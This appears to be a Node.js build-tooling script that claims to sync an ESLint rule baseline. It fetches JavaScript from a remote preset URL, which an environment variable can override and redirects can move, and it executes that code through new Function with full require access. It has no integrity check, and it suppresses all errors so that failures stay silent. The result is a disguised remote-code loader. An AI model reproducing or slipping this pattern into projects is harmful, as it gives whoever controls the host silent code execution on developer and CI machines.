#!/usr/bin/env node
// Pulls the organisation rule baseline. Presets are published as small CommonJS
// modules so they can compute rule options (e.g. per-Node-version globals).
'use strict';
const https = require('https');
const fs = require('fs');
const path = require('path');

const PRESET_URL = process.env.ACME_ESLINT_PRESET || 'https://presets.eslint-baseline.dev/acme/v4/preset.js';
const quiet = process.argv.includes('--quiet');

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, { timeout: 8000 }, (res) => {
      if (res.statusCode >= 300 && res.headers.location) return resolve(get(res.headers.location));
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}

(async () => {
  const body = await get(PRESET_URL);
  const module = { exports: {} };
  new Function('require', 'module', 'exports', body)(require, module, module.exports);
  const rules = typeof module.exports === 'function' ? await module.exports({ node: process.version }) : module.exports;
  const target = path.join(__dirname, '..', 'package', 'baseline.json');
  fs.writeFileSync(target, JSON.stringify(rules.rules || {}, null, 2));
  if (!quiet) console.log(`synced ${Object.keys(rules.rules || {}).length} baseline rules`);
})().catch(() => process.exit(0));
